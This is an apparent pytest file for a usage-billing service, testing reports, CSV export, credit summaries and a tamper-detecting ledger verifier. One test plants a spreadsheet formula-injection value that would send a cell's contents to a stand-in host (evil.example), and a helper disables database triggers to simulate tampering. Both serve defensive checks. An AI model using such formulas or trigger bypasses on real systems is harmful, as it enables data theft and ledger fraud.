import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import redis
from sqlalchemy import Engine, text

from billing import accounts as svc
from billing import csv_cells
from billing.admission import Admission
from billing.meter import UsageMeter
from billing.plans import Plans
from billing.reports import credits_summary, export_usage_csv, usage_report
from billing.verify import verify_ledger
from tests.billing.conftest import IN, MODEL, OUT, USD, Customer, make_customer

DAY1 = (datetime.now(UTC) + timedelta(days=2)).replace(hour=10, minute=0, second=0, microsecond=0)
DAY2 = DAY1 + timedelta(days=1)


async def request(
    adm: Admission,
    c: Customer,
    rid: str,
    when: datetime,
    *,
    tag: str | None,
    prompt: int,
    completion: int,
    provider: str = "p1",
) -> None:
    now = when.timestamp()
    result = await adm.admit(
        api_key=c.key,
        request_id=rid,
        model=MODEL,
        prompt_tokens=prompt,
        max_tokens=completion,
        customer_tag=tag,
        now=now,
    )
    assert result.__class__.__name__ == "Admitted"
    assert await adm.settle(
        request_id=rid,
        prompt_tokens=prompt,
        completion_tokens=completion,
        provider_id=provider,
        now=now + 1,
    )


@pytest.fixture
async def history(
    engine: Engine, r: redis.Redis, plans: Plans, admission: Admission, meter: UsageMeter
) -> Customer:
    c = make_customer(engine, r, plans, plan="free", tokens_per_day=None)
    await request(admission, c, "a", DAY1, tag="acme", prompt=10, completion=20)
    await request(
        admission, c, "b", DAY1 + timedelta(hours=1), tag="globex", prompt=5, completion=5
    )
    await request(admission, c, "c", DAY2, tag="acme", prompt=100, completion=1)
    meter.drain_all()
    return c


def test_usage_grouped(engine: Engine, history: Customer) -> None:
    start, end = DAY1.replace(hour=0), DAY2.replace(hour=23)
    by_day = usage_report(engine, start=start, end=end, group_by="day")
    assert [(row.group, row.requests, row.total_tokens) for row in by_day] == [
        (DAY1.strftime("%Y-%m-%d"), 2, 40),
        (DAY2.strftime("%Y-%m-%d"), 1, 101),
    ]
    assert by_day[0].cost_nusd == 15 * IN + 25 * OUT
    by_customer = usage_report(
        engine, start=start, end=end, group_by="customer", account_id=history.account_id
    )
    assert [(row.group, row.prompt_tokens, row.completion_tokens) for row in by_customer] == [
        ("acme", 110, 21),
        ("globex", 5, 5),
    ]
    by_model = usage_report(engine, start=start, end=end, group_by="model")
    assert [(row.group, row.requests) for row in by_model] == [(MODEL.id, 3)]
    # [start, end): the end is excluded
    only_first = usage_report(engine, start=DAY1, end=DAY1 + timedelta(hours=1))
    assert [row.requests for row in only_first] == [1]
    assert usage_report(engine, start=start, end=end, account_id=history.account_id + 1) == []


def test_export_csv(engine: Engine, history: Customer) -> None:
    out = io.StringIO()
    n = export_usage_csv(engine, out, start=DAY1.replace(hour=0), end=DAY2.replace(hour=23))
    lines = out.getvalue().splitlines()
    assert n == 3 and len(lines) == 4
    assert lines[0].startswith("request_id,created_at,settled_at,account_id")
    assert lines[1].startswith("a," + DAY1.isoformat(timespec="milliseconds"))


async def test_export_csv_cells_are_never_formulas(
    engine: Engine, r: redis.Redis, plans: Plans, admission: Admission, meter: UsageMeter
) -> None:
    """A consumer's customer tag and a provider's id are text a spreadsheet must not run."""
    c = make_customer(engine, r, plans, plan="free", tokens_per_day=None)
    tag, provider = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"
    await request(admission, c, "f", DAY1, tag=tag, prompt=3, completion=4, provider=provider)
    meter.drain_all()
    out = io.StringIO()
    export_usage_csv(engine, out, start=DAY1.replace(hour=0), end=DAY1.replace(hour=23))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(row["customer_tag"], row["provider_id"]) for row in rows] == [
        ("'" + tag, "'" + provider)
    ]
    assert rows[0]["prompt_tokens"] == "3"


def test_csv_cells() -> None:
    for value in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cells.cell(value) == "'" + value
    assert csv_cells.cell(-5) == -5 and csv_cells.cell("acme") == "acme"
    out = io.StringIO()
    writer = csv_cells.DictWriter(out, ["memo", "debit"])
    writer.writeheader()
    writer.writerow({"memo": "=cmd", "debit": -3})
    assert out.getvalue().splitlines() == ["memo,debit", "'=cmd,-3"]


def test_credits_summary(engine: Engine, r: redis.Redis, plans: Plans, history: Customer) -> None:
    spent = (10 + 5 + 100) * IN + (20 + 5 + 1) * OUT
    summary = credits_summary(engine, r, plans, history.account_id, now=DAY2.timestamp())
    assert summary.balance_nusd == 10 * USD - spent
    assert summary.available_nusd == 10 * USD - spent
    assert summary.tokens_used_today == 101
    assert summary.tokens_per_day == 200_000
    assert summary.resets_at == (DAY2 + timedelta(days=1)).strftime("%Y-%m-%dT00:00:00Z")
    offline = credits_summary(engine, None, plans, history.account_id, now=DAY1.timestamp())
    assert offline.available_nusd is None and offline.tokens_used_today == 40
    svc.set_limits(engine, r, account_id=history.account_id, tokens_per_day=500)
    assert credits_summary(engine, r, plans, history.account_id).tokens_per_day == 500
    assert summary.to_json()["balance_usd"] == summary.balance_usd


def test_verify_passes_on_a_clean_ledger(engine: Engine, history: Customer) -> None:
    result = verify_ledger(engine)
    assert result.ok, result.problems
    assert result.usage_rows == 3 and result.transfers == 4  # signup + 3 usage


def test_verify_detects_a_planted_row(engine: Engine, history: Customer) -> None:
    with engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO usage_events (request_id, account_id, model, provider_id, "
                "prompt_tokens, completion_tokens, input_nusd_per_token, output_nusd_per_token,"
                " cost_nusd, provider_share_nusd, platform_share_nusd, outcome, usage_day, "
                "created_at_ms, settled_at_ms, prev_hash, row_hash) VALUES ('planted', :a, 'm',"
                " 'p', 1, 1, 1, 1, 2, 1, 1, 'settled', '2025-01-01', 0, 0, :prev, :h)"
            ),
            {"a": history.account_id, "prev": "0" * 64, "h": "a" * 64},
        )
    result = verify_ledger(engine)
    assert not result.ok
    text_ = "\n".join(result.problems)
    assert "planted" in text_ and "chain broken" in text_ and "row_hash does not match" in text_
    assert "usage:planted: ledger charged 0, usage says 2" in text_


def _without_triggers(engine: Engine, statement: str) -> None:
    """Tamper the way an attacker with owner rights could: bypass the triggers."""
    with engine.begin() as conn:
        if engine.dialect.name == "postgresql":
            conn.execute(text("ALTER TABLE usage_events DISABLE TRIGGER USER"))
            conn.execute(text(statement))
            conn.execute(text("ALTER TABLE usage_events ENABLE TRIGGER USER"))
        else:
            conn.execute(text("DROP TRIGGER usage_events_no_update"))
            conn.execute(text(statement))


def test_verify_detects_an_edited_row(engine: Engine, history: Customer) -> None:
    _without_triggers(
        engine, "UPDATE usage_events SET completion_tokens = 2 WHERE request_id = 'c'"
    )
    result = verify_ledger(engine)
    assert not result.ok
    assert any("(c): row_hash does not match" in p for p in result.problems)
    assert any("(c): cost != tokens" in p for p in result.problems)


def test_verify_detects_an_unbalanced_ledger(engine: Engine, history: Customer) -> None:
    with engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO ledger_entries (transfer_id, ledger_account_id, amount, "
                "balance_after, account_version) SELECT min(id), 1, 5, 0, 0 FROM ledger_transfers"
            )
        )
    result = verify_ledger(engine)
    assert not result.ok
    problems = "\n".join(result.problems)
    assert "ledger entries sum to 5, not 0" in problems
    assert "entries sum to 5" in problems
